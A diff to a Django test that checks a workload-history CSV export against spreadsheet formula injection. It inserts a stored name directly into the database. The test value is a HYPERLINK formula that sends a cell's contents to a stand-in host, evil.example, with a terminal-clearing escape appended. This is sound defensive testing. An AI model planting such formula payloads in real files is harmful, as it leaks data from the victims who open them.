@@ -54,7 +54,8 @@ def test_history_csv_does_not_hand_a_spreadsheet_another_users_formula(
     name = '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b[2J'
     at = timezone.now().replace(microsecond=0)
     with django_capture_on_commit_callbacks(execute=True):
-        w = do_submit_workload(teammate, **submit_kwargs(name=name, gpu_count=1), submitted_at=at - timedelta(hours=2))
+        w = do_submit_workload(teammate, **submit_kwargs(name="x", gpu_count=1), submitted_at=at - timedelta(hours=2))
+        Workload.objects.filter(pk=w.pk).update(name=name)  # stored before names refused escapes (left36)
         run_tick(cluster.pk)
         attempt = Attempt.objects.select_related("host").get(workload=w)
         lifecycle.attempt_started(attempt.host, attempt.pk, now=at - timedelta(hours=1))
